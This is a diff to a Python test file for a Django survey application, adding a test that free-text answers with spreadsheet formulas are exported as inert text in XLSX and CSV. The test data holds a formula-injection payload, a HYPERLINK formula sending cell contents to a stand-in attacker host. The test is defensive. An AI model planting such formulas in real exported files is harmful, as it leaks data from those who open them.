@@ -26,7 +26,7 @@ from hypothesis import strategies as st
 from pypdf import PdfReader
 
 from innovera.surveys.analysis import Response, analyse_round
-from innovera.surveys.importing import write_responses_csv
+from innovera.surveys.importing import parse_responses, write_responses_csv
 from innovera.surveys.models import Round, SurveyMode, SurveyResponse
 from innovera.surveys.privacy import shown_analysis
 from innovera.surveys.services import ANONYMOUS_ID_RANGE, draft_save, response_submit
@@ -313,3 +313,27 @@ def test_no_shown_figure_rests_on_fewer_than_five(responses: list[Response]) -> 
         assert json.dumps(shown).count("true") >= 1
         assert overall["n"] is None and overall["distribution"] is None
     assert shown_analysis(raw_analysis, mode="identified", min_respondents=5) == raw_analysis
+
+
+# --- formula injection (issue 8 §2, finding 3) ----------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_a_formula_in_free_text_is_text_in_the_workbook_and_the_answer_file(
+    tmp_path: Path, office: Client
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Öppna")'
+    answers = respondents(["district"] * 5)
+    answers[0].answers["innovation_examples"] = formula  # type: ignore[index]
+    import_round(tmp_path, answers)
+
+    xlsx = office.get(reverse("surveys:round_report", args=["liten", "xlsx"]))
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Fritext"]
+    cell = next(c for row in sheet.iter_rows(min_row=2) for c in row if c.value == formula)
+    assert cell.data_type == "s" and cell.quotePrefix
+
+    exported = tmp_path / "ut.csv"
+    write_responses_csv(answers, {}, exported)
+    assert "'=HYPERLINK" in exported.read_text(encoding="utf-8-sig")
+    again = parse_responses(exported)
+    assert again.responses[0].answers["innovation_examples"] == formula
